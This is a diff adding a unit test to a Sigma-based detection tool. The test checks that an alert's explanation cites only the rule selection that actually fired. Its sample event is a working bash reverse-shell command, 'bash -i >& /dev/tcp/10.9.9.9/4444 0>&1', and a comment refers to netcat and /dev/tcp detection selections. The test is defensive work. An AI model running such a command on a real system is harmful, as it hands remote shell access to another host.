@@ -81,6 +81,22 @@ describe('alertFromSigmaMatch', () => {
     ]);
   });
 
+  it('cites only the selections that made the condition true, not those that matched in vain', () => {
+    // `bash -c "…/dev/tcp/…"` matches selection_netcat_exec (" -c ") too, but that selection counts
+    // only together with a netcat image, which this is not: the verdict rests on selection_dev_tcp.
+    const { alert } = build(
+      processLaunch(
+        { Image: '/bin/bash', CommandLine: 'bash -c "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1"' },
+        { id: 'evt-c' },
+      ),
+    );
+    expect(alert.explanation).toContain('selection_dev_tcp');
+    expect(alert.explanation).not.toContain('selection_netcat_exec');
+    expect(alert.reasons.map((r) => r.summary.split(':')[0])).toEqual([
+      "selection 'selection_dev_tcp'",
+    ]);
+  });
+
   it('gives the same id to the same rule and entity in the same window, another in the next', () => {
     const first = build().alert.id;
     const sameWindow = build(
